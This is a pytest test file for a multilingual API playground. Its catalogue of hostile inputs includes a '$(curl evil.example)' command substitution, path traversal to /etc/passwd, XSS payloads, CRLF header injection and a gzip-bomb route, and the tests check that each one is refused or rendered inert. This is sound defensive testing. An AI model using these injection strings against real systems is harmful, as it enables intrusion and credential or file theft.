"""The hostile input catalogue: what a reader (or a live target) can throw at the playground.

One table, `CATALOGUE`: each case names the field it goes into, the input, and what must come
of it: a diagnosis finding, a refusal code (nothing is sent), or a status from the sandbox. The
pure part runs every case in CPython and checks that each message exists in English, Japanese
and Traditional Chinese. The browser part replays cases in the real page (one page per language, Pyodide loaded
once each) against a hostile local server: the localized message appears, nothing executes, no
dialog opens, the page keeps answering, the request can be cancelled and times out, and what
the reader typed is still in the field.
"""

from __future__ import annotations

import asyncio
import json
import re
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import urljoin

import pytest
from hostile_target import MB, HostileHandler, serving
from localized import assert_in_every_language  # tests/localized.py

import playground
from playground import _messages, _send, browser

KEY = playground.MAIAGENT_DEMO_KEY
READY = 60_000
PATH_FIELD = ".playground__path:not(.playground__url)"


class Repeated(str):
    """A long input made of repeated parts: the page builds it itself (sending 10 MB through the
    browser's debugging protocol alone takes seconds); it is the same string either way."""

    parts: tuple[tuple[str, int], ...]

    def __new__(cls, *parts: tuple[str, int]) -> Repeated:
        text = super().__new__(cls, "".join(unit * times for unit, times in parts))
        text.parts = parts
        return text

    def js(self) -> list[list[Any]]:
        return [[unit, times] for unit, times in self.parts]


@dataclass(frozen=True)
class Case:
    """One hostile input.

    field: "key", "path" (the endpoint), "url" (a live base URL), "body" (JSON) or "live" (what a
        live target answers: `input` names a route of `HostileHandler`).
    expect: a diagnosis code (key), an error code of `_messages.MESSAGES` (nothing sent, or no
        answer), "status:NNN" (sent; the sandbox answered NNN) or "sent" (left for the target).
    browser: the languages whose page replays it ("" for none: cheap at the Python level only).
    """

    id: str
    field: str
    input: str
    expect: str
    browser: str = ""
    method: str = "POST"


CATALOGUE: tuple[Case, ...] = (
    # --- the API key: sent as typed, never when no HTTP client could; diagnosed; Apply fix writes ASCII ---
    Case("key-control-bell", "key", "demo1234\x07abcd5678", "control_character"),
    Case("key-nul", "key", "demo1234\x00abcd5678", "control_character"),
    Case("key-crlf-injection", "key", f"{KEY}\r\nX-Injected: 1", "line_break"),
    Case("key-10kb", "key", Repeated(("a", 10 * 1024)), "key_too_long", "en ja"),
    Case("key-100kb-with-scheme", "key", Repeated(("Api-Key ", 1), ("b", 100 * 1024)), "key_too_long"),
    Case("key-emoji", "key", "demo1234\U0001f511abcd5678", "non_ascii", "en"),
    Case("key-rtl-override", "key", f"\u202e{KEY}", "zero_width_character", "en ja"),
    Case("key-bidi-isolate", "key", "demo1234\u2066abcd5678\u2069", "zero_width_character"),
    Case("key-html-img-onerror", "key", '<img src=x onerror="window.__pwned=1">', "unknown_scheme", "en ja"),
    Case("key-script-tag", "key", "<script>window.__pwned=1</script>", "angle_brackets", "en"),
    Case("key-whitespace-only", "key", "   \u3000  ", "empty_key", "en"),
    Case(
        "key-fullwidth", "key", "\uff44\uff45\uff4d\uff4f\uff11\uff12\uff13\uff14abcd5678", "fullwidth_character", "ja"
    ),
    Case("key-lone-surrogate", "key", "demo1234\ud800abcd5678", "non_ascii"),
    Case("key-cyrillic-homoglyph", "key", "demo1234\u0430bcd5678", "non_ascii", "en"),
    Case(
        "key-header-block",
        "key",
        f"Content-Type: text/plain\nAuthorization: Api-Key {KEY}\nAccept: */*",
        "authorization_prefix_pasted",
    ),
    Case("key-shell-substitution", "key", "$(curl evil.example)", "unknown_scheme"),
    # --- the endpoint ---------------------------------------------------------------------------
    Case("path-dot-dot", "path", "../../etc/passwd", "path_dot_segments", "en ja"),
    Case("path-encoded-dot-dot", "path", "/api/v1/%2e%2E/%2E%2e/admin", "path_dot_segments", "en"),
    Case("path-absolute-url", "path", "https://evil.example/api/v1/chatbots/", "invalid_path", "en"),
    Case("path-protocol-relative", "path", "//evil.example/x", "invalid_path"),
    Case("path-javascript", "path", "javascript:alert(1)", "invalid_path", "en"),
    Case("path-crlf-header-injection", "path", "/api/v1/chatbots/\r\nX-Evil: 1", "path_characters"),
    Case("path-nul", "path", "/api/v1/\x00chatbots/", "path_characters"),
    Case("path-tab", "path", "/api/v1/\tchatbots/", "path_characters"),
    Case("path-space", "path", "/api/v1/chat bots/", "path_characters", "en"),
    Case("path-unicode", "path", "/api/v1/\u30c1\u30e3\u30c3\u30c8/", "path_characters", "ja"),
    Case("path-backslash", "path", "/api/v1/\\\\evil.example/", "path_characters"),
    Case("path-lone-surrogate", "path", "/api/v1/\udc00/", "path_characters"),
    Case("path-whitespace-only", "path", "   ", "empty_path", "en"),
    Case("path-10kb", "path", Repeated(("/api/v1/", 1), ("a", 10 * 1024)), "status:404", "en", method="GET"),
    Case(
        "path-query-with-html",
        "path",
        "/api/v1/chatbots/?pageSize=1&q=<script>alert(1)</script>",
        "status:200",
        "en",
        method="GET",
    ),
    # --- the live base URL ----------------------------------------------------------------------
    Case("url-javascript", "url", "javascript:alert(1)", "non_http_scheme", "en ja"),
    Case("url-data", "url", "data:text/html,<script>window.__pwned=1</script>", "non_http_scheme", "en"),
    Case("url-file", "url", "file:///etc/passwd", "non_http_scheme", "en"),
    Case("url-ftp", "url", "ftp://127.0.0.1/", "non_http_scheme"),
    Case("url-credentials", "url", "http://user:pass@127.0.0.1:9/", "url_credentials", "en ja"),
    Case("url-no-scheme", "url", "127.0.0.1:8000/sandbox/maiagent/", "invalid_url", "en"),
    Case("url-host-port-no-scheme", "url", "localhost:8000/sandbox/maiagent/", "invalid_url"),
    Case("url-empty", "url", "", "empty_url", "en"),
    Case("url-5kb-host", "url", Repeated(("http://", 1), ("a", 5 * 1024), (".example/", 1)), "invalid_url", "en"),
    Case("url-5kb-path", "url", Repeated(("http://127.0.0.1:9/", 1), ("p", 5 * 1024), ("/", 1)), "sent"),
    Case("url-port-out-of-range", "url", "http://127.0.0.1:99999/", "invalid_url", "en"),
    Case("url-ipv6-literal", "url", "http://[::1]:9/", "sent"),
    Case("url-ipv6-broken", "url", "http://[::1/", "invalid_url"),
    Case("url-space", "url", "http://exa mple.com/", "url_characters"),
    Case("url-idn", "url", "http://\u4f8b\u3048.jp/", "url_characters", "ja"),
    Case("url-crlf", "url", "http://127.0.0.1:9/\r\nX-Evil: 1", "url_characters"),
    Case("url-query-fragment", "url", "http://127.0.0.1:9/sandbox/maiagent/?debug=1#x", "url_query", "en"),
    # The browser resolves dot segments: the status line showed …/maiagent/%2e%2e/…, the request went elsewhere.
    Case("url-dot-segments", "url", "http://127.0.0.1:9/sandbox/maiagent/../../", "url_dot_segments", "ja"),
    Case("url-encoded-dot-segment", "url", "http://127.0.0.1:9/sandbox/maiagent/%2E%2e/", "url_dot_segments"),
    # --- the JSON body --------------------------------------------------------------------------
    Case("body-invalid", "body", "{not json", "invalid_json", "en"),
    Case("body-trailing-comma", "body", '{"name": "x",}', "invalid_json"),
    Case("body-bom", "body", '\ufeff{"name": "x"}', "status:201"),  # an invisible byte order mark is dropped
    Case("body-nested-100k-arrays", "body", Repeated(("[", 100_000), ("]", 100_000)), "json_too_deep", "en ja"),
    Case("body-nested-100k-objects", "body", Repeated(('{"a":', 100_000), ("1", 1), ("}", 100_000)), "json_too_deep"),
    Case("body-10mb", "body", Repeated(('{"name": "', 1), ("x", 10 * MB), ('"}', 1)), "body_too_large", "en"),
    Case("body-nan", "body", '{"name": "x", "temperature": NaN}', "json_constant", "en"),
    Case("body-infinity", "body", '{"temperature": -Infinity}', "json_constant"),
    Case("body-overflowing-number", "body", '{"temperature": 1e999999}', "json_constant"),
    Case("body-5000-digit-integer", "body", '{"n": ' + "9" * 5000 + "}", "json_constant", "ja"),
    # fetch throws on a GET or HEAD with a body, before sending: the page would call it a network failure.
    Case("body-on-get", "body", '{"name": "x"}', "body_not_allowed", "en ja", method="GET"),
    Case("body-on-head", "body", "{}", "body_not_allowed", method="HEAD"),
    Case("body-duplicate-keys", "body", '{"name": "a", "name": "b"}', "duplicate_key", "en ja"),
    Case("body-lone-surrogate-escaped", "body", '{"name": "\\ud800"}', "status:400"),
    Case("body-lone-surrogate-raw", "body", '{"name": "\ud800"}', "status:400", "en"),
    Case("body-html", "body", '{"name": "<img src=x onerror=\\"window.__pwned=1\\">"}', "status:201", "en"),
    # --- what a live target answers (HostileHandler's routes) ------------------------------------
    Case("live-slow-then-cancelled", "live", "slow", "cancelled", "en ja"),
    Case("live-never-answers", "live", "never", "timeout", "en ja"),
    Case("live-text-plain", "live", "text", "status:200", "en"),
    Case("live-html-script", "live", "html", "status:200", "en ja"),
    Case("live-script-in-headers", "live", "headers", "status:200", "en"),
    Case("live-20mb-declared", "live", "huge", "too_large", "en"),
    Case("live-20mb-undeclared", "live", "huge-stream", "too_large", "en"),
    Case("live-gzip-bomb", "live", "gzip-bomb", "too_large", "en"),
    Case("live-5mb-json", "live", "big", "status:200", "en"),
    Case("live-deep-json", "live", "deep-json", "status:200", "en"),
    Case("live-redirect-other-origin", "live", "redirect", "redirect", "en ja"),
    Case("live-redirect-loop", "live", "loop", "redirect", "en"),
    Case("live-204-empty", "live", "empty", "status:204", "en"),
    Case("live-json-as-html", "live", "wrong-type", "status:200", "en"),
    Case("live-invalid-utf8", "live", "bad-utf8", "status:200", "en"),
    Case("live-no-cors", "live", "no-cors", "network", "en"),
    Case("live-connection-reset", "live", "reset", "network", "en"),
)
BY_ID = {case.id: case for case in CATALOGUE}


def cases(field: str) -> list[Any]:
    return [pytest.param(case, id=case.id) for case in CATALOGUE if case.field == field]


def message(code: str, detail: str = "") -> dict[str, str]:
    """The error message for `code`, as the page shows it (the backticks of `code` spans dropped)."""
    text = _messages.error_dict(code, detail)["error"]["message"]
    return {lang: value.replace("`", "") for lang, value in text.items()}


def assert_localized(pair: dict[str, str]) -> None:
    # English, Japanese and Traditional Chinese, each its own, every placeholder filled.
    assert_in_every_language(pair, fields=False)


# --- the catalogue itself ------------------------------------------------------------------------


def test_the_catalogue_covers_every_field() -> None:
    assert len(CATALOGUE) >= 40 and len(BY_ID) == len(CATALOGUE)
    counts = {field: sum(case.field == field for case in CATALOGUE) for field in ("key", "path", "url", "body", "live")}
    assert min(counts.values()) >= 8, counts
    for case in CATALOGUE:
        assert set(case.browser.split()) <= {"en", "ja"}, case.id
        known = case.expect in _messages.MESSAGES or case.expect in playground.DIAGNOSIS_CODES
        assert known or re.fullmatch(r"status:\d{3}|sent", case.expect), case.id


# --- in CPython: every case ----------------------------------------------------------------------


@pytest.mark.parametrize("case", cases("key"))
def test_key_cases_are_diagnosed_in_both_languages(case: Case) -> None:
    result = browser.diagnose("maiagent", case.input)
    codes = [f["code"] for f in result["findings"]]
    assert case.expect in codes, codes
    # The header is the text as typed; the key Apply fix writes is one line of printable ASCII.
    assert result["value"] == f"Api-Key {case.input}"
    assert all(" " <= c <= "~" for c in result["key"]), result["key"][:80]
    if not all(" " <= c <= "~" for c in result["value"]):
        # A header no HTTP client sends (a line break, a control or non-ASCII character): Send refuses it.
        recorder = Recorder()
        spec = {"api": "maiagent", "key": case.input, "method": "GET", "path": "/api/v1/chatbots/"}
        refused = asyncio.run(browser.send(spec, transport=recorder))
        assert refused["error"]["code"] == "header_characters" and not recorder.sent
    for finding in result["findings"]:
        assert_localized(finding["message"])
        assert_localized(finding["fix"])
    # The worker can hand it to the page, a lone surrogate typed in the key included.
    answer = asyncio.run(browser.dispatch(json.dumps({"op": "diagnose", "api": "maiagent", "key": case.input})))
    assert json.loads(answer) == result


class Recorder(playground.SandboxTransport):
    """The sandbox (for any target), recording every request that reaches it."""

    def __init__(self) -> None:
        self.sent: list[playground.Request] = []

    def handle_request(self, request: playground.Request) -> playground.Response:
        self.sent.append(request)
        return super().handle_request(request)


def request_spec(case: Case) -> tuple[dict[str, Any], str]:
    spec = {"api": "maiagent", "key": KEY, "method": case.method, "path": "/api/v1/chatbots/", "body": ""}
    target = "sandbox"
    if case.field == "path":
        spec["path"] = case.input
    elif case.field == "body":
        spec["body"] = case.input
    elif case.field == "url":
        spec["method"], target = "GET", case.input
    return spec, target


@pytest.mark.parametrize("case", cases("path") + cases("url") + cases("body"))
def test_request_cases_are_refused_or_answered_as_documented(case: Case) -> None:
    spec, target = request_spec(case)
    recorder = Recorder()
    result = asyncio.run(browser.send(spec, target, transport=recorder))
    if case.expect == "sent":
        assert result["ok"] and len(recorder.sent) == 1, result
        assert recorder.sent[0].url.startswith(target.rstrip("/"))
    elif case.expect.startswith("status:"):
        assert len(recorder.sent) == 1
        assert result["ok"], result
        assert result["status"] == int(case.expect.split(":")[1]), result["body"][:200]
    else:
        assert result["ok"] is False, result
        assert result["error"]["code"] == case.expect, result["error"]
        assert result["error"]["sent"] is False
        assert not recorder.sent
        assert_localized(result["error"]["message"])
    assert len(json.dumps(result, ensure_ascii=False)) < 2 * MB  # no 10 MB echo of the input


@pytest.mark.parametrize(
    "code", sorted({case.expect for case in CATALOGUE if case.field == "live" and case.expect in _messages.MESSAGES})
)
def test_live_failure_messages_are_localized(code: str) -> None:
    error = _messages.error_dict(code, "1.5")["error"]
    assert_localized(error["message"])
    assert error["sent"] is True  # the page says "no answer", not "not sent"


class FakeFetchResponse:
    def __init__(self, status: int, headers: dict[str, str], body: bytes, type: str = "cors") -> None:  # noqa: A002
        self.status, self.headers, self._body, self.type = status, headers, body, type
        self.aborted = False

    async def bytes(self) -> bytes:
        return self._body

    def abort(self) -> None:
        self.aborted = True


LIVE_SPEC = {"api": "maiagent", "key": KEY, "method": "GET", "path": "/api/v1/chatbots/"}


def test_a_redirect_is_named_not_followed() -> None:
    async def pyfetch(url: str, **options: Any) -> FakeFetchResponse:
        assert options["redirect"] == "manual"  # the browser hands back an opaque redirect, never follows it
        return FakeFetchResponse(0, {}, b"", type="opaqueredirect")

    transport = playground.FetchTransport(pyfetch=pyfetch)
    result = asyncio.run(browser.send(LIVE_SPEC, "http://127.0.0.1:9/", transport=transport))
    assert result["error"]["code"] == "redirect" and result["error"]["sent"]


class EndlessBody:
    """A ReadableStream as Pyodide shows it: 1 MB chunks that never end (a gzip bomb, unpacked)."""

    def __init__(self) -> None:
        self.reads, self.cancelled = 0, False

    def getReader(self) -> EndlessBody:  # noqa: N802  (JavaScript's name)
        return self

    async def read(self) -> Any:
        self.reads += 1
        chunk = SimpleNamespace(to_bytes=lambda: b"\0" * MB)
        return SimpleNamespace(done=False, value=chunk)

    def cancel(self) -> None:
        self.cancelled = True


def test_an_endless_answer_is_read_only_up_to_the_limit() -> None:
    stream = EndlessBody()
    answer = FakeFetchResponse(200, {}, b"")
    answer.js_response = SimpleNamespace(body=stream)

    async def whole_body() -> bytes:
        raise AssertionError("the whole body was read into memory")

    answer.bytes = whole_body

    async def pyfetch(url: str, **options: Any) -> FakeFetchResponse:
        return answer

    transport = playground.FetchTransport(pyfetch=pyfetch)
    result = asyncio.run(browser.send(LIVE_SPEC, "http://127.0.0.1:9/", transport=transport))
    assert result["error"]["code"] == "too_large"
    assert stream.cancelled and stream.reads == transport.max_response_bytes // MB + 1


def test_a_declared_huge_answer_is_aborted_unread() -> None:
    answer = FakeFetchResponse(200, {"content-length": str(20 * MB)}, b"")

    async def pyfetch(url: str, **options: Any) -> FakeFetchResponse:
        return answer

    transport = playground.FetchTransport(pyfetch=pyfetch)
    result = asyncio.run(browser.send(LIVE_SPEC, "http://127.0.0.1:9/", transport=transport))
    assert result["error"]["code"] == "too_large" and answer.aborted


def slow_fetch_transport(monkeypatch: pytest.MonkeyPatch, seconds: float) -> list[Any]:
    """Make `send` build FetchTransports whose fetch takes `seconds`.

    Returns a list that gets each transport's time limit, and "aborted" when a fetch is cancelled.
    """
    events: list[Any] = []

    async def pyfetch(url: str, **options: Any) -> FakeFetchResponse:
        try:
            await asyncio.sleep(seconds)
        except asyncio.CancelledError:
            events.append("aborted")  # pyodide.http.pyfetch aborts the browser's fetch here
            raise
        return FakeFetchResponse(200, {}, b"{}")

    def build(**options: Any) -> playground.FetchTransport:
        events.append(options["timeout"])
        return playground.FetchTransport(pyfetch=pyfetch, **options)

    monkeypatch.setattr(_send, "FetchTransport", build)
    return events


def test_a_send_can_be_cancelled_by_its_id(monkeypatch: pytest.MonkeyPatch) -> None:
    events = slow_fetch_transport(monkeypatch, 30)

    async def scenario() -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
        message = {"op": "send", "spec": LIVE_SPEC, "target": "http://127.0.0.1:9/", "request_id": "r1"}
        sending = asyncio.ensure_future(browser.dispatch(json.dumps(message)))
        await asyncio.sleep(0.05)
        cancelled = json.loads(await browser.dispatch('{"op": "cancel", "request_id": "r1"}'))
        result = json.loads(await asyncio.wait_for(sending, 5))
        again = json.loads(await browser.dispatch('{"op": "cancel", "request_id": "r1"}'))
        return result, cancelled, again

    start = time.perf_counter()
    result, cancelled, again = asyncio.run(scenario())
    assert time.perf_counter() - start < 5
    assert cancelled == {"ok": True, "cancelled": True} and again["cancelled"] is False
    assert result["error"]["code"] == "cancelled" and events == [browser.LIVE_TIMEOUT_SECONDS, "aborted"]
    assert_localized(result["error"]["message"])


@pytest.mark.parametrize(
    ("asked", "used"),
    [
        (0.2, 0.2),
        (None, browser.LIVE_TIMEOUT_SECONDS),
        (999, browser.MAX_LIVE_TIMEOUT_SECONDS),
        ("nan", browser.LIVE_TIMEOUT_SECONDS),
        ("soon", browser.LIVE_TIMEOUT_SECONDS),
    ],
)
def test_the_live_time_limit_is_configurable_and_bounded(
    monkeypatch: pytest.MonkeyPatch, asked: Any, used: float
) -> None:
    events = slow_fetch_transport(monkeypatch, 0.5 if used == 0.2 else 0)
    result = asyncio.run(browser.send(LIVE_SPEC, "http://127.0.0.1:9/", timeout=asked))
    assert events[0] == used
    if used == 0.2:
        assert result["error"]["code"] == "timeout" and events == [0.2, "aborted"]
        assert "0.2 s" in result["error"]["message"]["en"] and "0.2 秒" in result["error"]["message"]["ja"]
        assert "0.2 秒" in result["error"]["message"]["zh-TW"]
    else:
        assert result["ok"] and result["status"] == 200
    assert browser.MAX_LIVE_TIMEOUT_SECONDS <= 30


def test_the_page_waits_longer_than_any_live_time_limit() -> None:
    # The page gives up on a worker that does not answer a call; a live send must time out first.
    script = (Path(__file__).resolve().parents[1] / "playground" / "web" / "worker-client.mjs").read_text(
        encoding="utf-8"
    )
    for limit in re.findall(r"CALL_TIME_LIMIT_MS = (\d+)", script):
        assert int(limit) > browser.MAX_LIVE_TIMEOUT_SECONDS * 1000 + 5000


def test_answers_with_lone_surrogates_are_still_valid_text() -> None:
    # A lone surrogate pasted into the body ends up in the generated code; the answer must still be
    # text that UTF-8 (and so Pyodide's conversion to a JavaScript string) can carry.
    answer = asyncio.run(
        browser.dispatch(
            json.dumps(
                {
                    "op": "code",
                    "spec": {
                        "api": "maiagent",
                        "method": "POST",
                        "path": "/api/v1/chatbots/",
                        "body": '{"name": "\ud800"}',
                    },
                }
            )
        )
    )
    answer.encode("utf-8")
    assert [tab["id"] for tab in json.loads(answer)["tabs"]] == ["curl", "python", "javascript", "node"]


# --- in the browser: the page, one per language, against a hostile local server ------------------


@pytest.fixture(scope="module")
def hostile_server() -> Iterator[str]:
    with serving() as url:
        yield url


@pytest.fixture(scope="module")
def pages(browser, site_server: str) -> Iterator[Any]:
    """The playground page per language, opened on first use and kept for the module."""
    context = browser.new_context()
    opened: dict[str, Any] = {}

    def page_for(lang: str) -> Any:
        if lang not in opened:
            tab = context.new_page()
            tab.lang = lang
            tab.dialogs = []
            tab.failed_requests = []
            tab.on("dialog", lambda dialog: (tab.dialogs.append(dialog.message), dialog.dismiss()))
            tab.on("requestfailed", lambda request: tab.failed_requests.append((request.url, request.failure)))
            tab.goto(urljoin(site_server, ("ja/" if lang == "ja" else "") + "maiagent/authentication/"))
            tab.wait_for_selector(".playground[data-ready=true]", state="attached", timeout=READY)
            opened[lang] = tab
        # Only the front tab gets full-speed timers (a background one is throttled to 1 Hz).
        opened[lang].bring_to_front()
        return opened[lang]

    yield page_for
    context.close()


def browser_cases(*fields: str) -> list[Any]:
    return [
        pytest.param(lang, case, id=f"{lang}-{case.id}")
        for lang in ("en", "ja")
        for case in CATALOGUE
        if case.field in fields and lang in case.browser.split()
    ]


# Builds a field's value in the page from a plain string or a Repeated's parts.
BUILD = "(value) => typeof value === 'string' ? value : value.map(([unit, times]) => unit.repeat(times)).join('')"


def as_argument(value: str) -> Any:
    return value.js() if isinstance(value, Repeated) else value


def set_value(tab: Any, selector: str, value: str) -> None:
    """Paste `value` as a reader would: the field's value, its input event, and the browser laying it out.

    Laying out a 10 MB paste takes Chromium itself a second or more; it happens here, before the
    playground does anything, so the heartbeat measures only what the playground adds.
    """
    tab.locator(selector).evaluate(
        f"(node, value) => {{ node.value = ({BUILD})(value); node.dispatchEvent(new Event('input', {{bubbles: true}}));"
        " node.offsetHeight; }",
        as_argument(value),
    )


def assert_kept(tab: Any, selector: str, value: str) -> None:
    """What the reader typed is still in the field, unchanged."""
    same = tab.locator(selector).evaluate(f"(node, value) => node.value === ({BUILD})(value)", as_argument(value))
    assert same, f"{selector} no longer holds what was typed"


def reset(tab: Any) -> None:
    # One round trip: the sandbox, GET, the demo key, the default endpoint, no body, no time limit.
    tab.locator(".playground").evaluate(
        """(root, [key, path]) => {
        const set = (selector, value, event) => { const node = root.querySelector(selector);
            if (node.value !== value) { node.value = value; node.dispatchEvent(new Event(event, {bubbles: true})); } };
        set('.playground__api', 'maiagent', 'change');
        const sandbox = root.querySelector('.playground__target-sandbox');
        if (!sandbox.checked) sandbox.click();
        set('.playground__key', key, 'input');
        set('.playground__method', 'GET', 'input');
        set('.playground__path:not(.playground__url)', path, 'input');
        set('.playground__body-input', '', 'input');
        delete root.dataset.timeout;
        root.querySelector('.playground__response').replaceChildren();
    }""",
        [KEY, "/api/v1/chatbots/"],
    )


def outside_the_loop(coroutine: Any) -> Any:
    # Playwright's sync API keeps an event loop running in this thread: asyncio.run needs another one.
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, coroutine).result()


def assert_safe_and_responsive(tab: Any) -> None:
    start = time.perf_counter()
    state = tab.evaluate("""() => ({pwned: window.__pwned === undefined ? null : window.__pwned,
        injected: document.querySelectorAll('.playground script, .playground img, .playground iframe').length})""")
    assert time.perf_counter() - start < 1.0, "the page's main thread stopped answering"
    assert state == {"pwned": None, "injected": 0}, "content from the input or the target executed"
    assert not tab.dialogs


def start_heartbeat(tab: Any) -> None:
    # The longest gap between 50 ms ticks measures how long the main thread was busy.
    tab.evaluate("""() => { window.__gap = 0; let last = performance.now();
        clearInterval(window.__beat); window.__beat = setInterval(() => { const now = performance.now();
        window.__gap = Math.max(window.__gap, now - last); last = now; }, 50); }""")


def stop_heartbeat(tab: Any) -> float:
    return tab.evaluate("() => { clearInterval(window.__beat); return window.__gap; }")


def click_send(tab: Any) -> Any:
    tab.click(".playground__send")
    return tab.wait_for_selector(
        ".playground__response .playground__status, .playground__response .playground__error", timeout=45_000
    )


def error_text(tab: Any) -> str:
    return tab.locator(".playground__response .playground__error").text_content()


@pytest.mark.browser
@pytest.mark.parametrize(("lang", "case"), browser_cases("key"))
def test_browser_key_cases(pages, lang: str, case: Case) -> None:
    tab = pages(lang)
    reset(tab)
    set_value(tab, ".playground__key", case.input)
    finding = tab.locator(f"li[data-code={case.expect}]")
    finding.wait_for(timeout=10_000)
    expected = next(f for f in browser.diagnose("maiagent", case.input)["findings"] if f["code"] == case.expect)
    assert expected["message"][lang].replace("`", "") in finding.text_content()
    header = tab.locator(".playground__header").text_content()
    assert "\n" not in header and "\r" not in header
    assert_kept(tab, ".playground__key", case.input)
    assert_safe_and_responsive(tab)


@pytest.mark.browser
@pytest.mark.parametrize(("lang", "case"), browser_cases("path", "url", "body"))
def test_browser_request_cases(pages, site_server: str, lang: str, case: Case) -> None:
    tab = pages(lang)
    reset(tab)
    spec, target = request_spec(case)
    tab.select_option(".playground__method", spec["method"])
    field = {"path": PATH_FIELD, "body": ".playground__body-input", "url": ".playground__url"}[case.field]
    if target != "sandbox":
        tab.check(".playground__target-live")
    set_value(tab, field, case.input)
    start_heartbeat(tab)
    click_send(tab)
    gap = stop_heartbeat(tab)
    assert gap < 1000, f"the main thread was blocked for {gap:.0f} ms"
    if case.expect.startswith("status:"):
        assert tab.locator(".playground__response [data-status]").get_attribute("data-status") == case.expect[7:]
    else:
        text = error_text(tab)
        expected = outside_the_loop(browser.send(spec, target, transport=Recorder()))["error"]["message"][lang]
        assert expected.replace("`", "") in text, text
        assert {"en": "Not sent", "ja": "送信していません"}[lang] in text
    assert_kept(tab, field, case.input)  # an endpoint's surrounding spaces included
    assert_safe_and_responsive(tab)


def live(tab: Any, hostile_server: str, route: str) -> None:
    reset(tab)
    tab.check(".playground__target-live")
    set_value(tab, ".playground__url", f"{hostile_server}{route}/")


def body_text(tab: Any) -> str:
    return tab.locator(".playground__response .playground__body code").text_content()


@pytest.mark.browser
@pytest.mark.parametrize(("lang", "case"), browser_cases("live"))
def test_browser_live_target_cases(pages, hostile_server: str, lang: str, case: Case) -> None:
    tab = pages(lang)
    live(tab, hostile_server, case.input)
    start_heartbeat(tab)
    if case.input == "slow":
        tab.click(".playground__send")
        tab.wait_for_selector(".playground__cancel:not([hidden])")
        tab.wait_for_timeout(500)
        tab.click(".playground__cancel")
        cancelled = {"en": "Cancelled", "ja": "キャンセル："}[lang]
        assert cancelled in tab.locator(".playground__response").text_content()
        assert tab.locator(".playground__send").is_enabled()
        # Cancel hides itself: the focus goes to Send, not to the page's body.
        assert tab.evaluate("() => document.activeElement.matches('.playground__send')")
        # The browser's fetch itself was aborted (not merely ignored), and the late answer never shows.
        deadline = time.monotonic() + 5
        while not any("/slow/" in url for url, _ in tab.failed_requests) and time.monotonic() < deadline:
            tab.wait_for_timeout(100)
        assert any("/slow/" in url for url, _ in tab.failed_requests), tab.failed_requests
        tab.wait_for_timeout(2000)  # past the moment the target would have answered
        assert cancelled in tab.locator(".playground__response").text_content()
        assert "late" not in tab.locator(".playground__response").text_content()
    elif case.input == "never":
        tab.locator(".playground").evaluate("node => { node.dataset.timeout = '1'; }")
        start = time.perf_counter()
        click_send(tab)
        assert 0.9 < time.perf_counter() - start < 10
        text = error_text(tab)
        assert message("timeout", "1")[lang] in text and {"en": "No answer", "ja": "応答なし"}[lang] in text
    else:
        click_send(tab)
        if case.expect.startswith("status:"):
            status = tab.locator(".playground__response [data-status]").get_attribute("data-status")
            assert status == case.expect[7:]
        else:
            text = error_text(tab)
            assert message(case.expect)[lang] in text, text
            assert {"en": "No answer", "ja": "応答なし"}[lang] in text
    gap = stop_heartbeat(tab)
    assert gap < 1000, f"the main thread was blocked for {gap:.0f} ms"
    check_live_body(tab, case)
    assert_kept(tab, ".playground__url", f"{hostile_server}{case.input}/")
    assert_safe_and_responsive(tab)


def check_live_body(tab: Any, case: Case) -> None:
    route = case.input
    if route == "html":
        assert body_text(tab) == HostileHandler.SCRIPT.decode()
    elif route == "headers":
        assert "onerror" in tab.locator(".playground__response .playground__header-table").text_content()
    elif route == "text":
        assert body_text(tab) == "plain text, not JSON: <b>bold</b>"
    elif route in ("big", "deep-json"):
        shown = body_text(tab)
        shortened = {"en": "[… shortened for display]", "ja": "[… 表示のため省略]"}[tab.lang]
        assert len(shown) < 200_000 and shown.endswith(shortened)
    elif route == "wrong-type":
        assert json.loads(body_text(tab)) == {"detail": "JSON served as HTML"}
    elif route == "bad-utf8":
        assert "\ufffd" in body_text(tab) and "broken" in body_text(tab)
    elif route == "empty":
        assert tab.locator(".playground__response [data-status]").text_content() == "204 No Content"
        assert body_text(tab) == ""
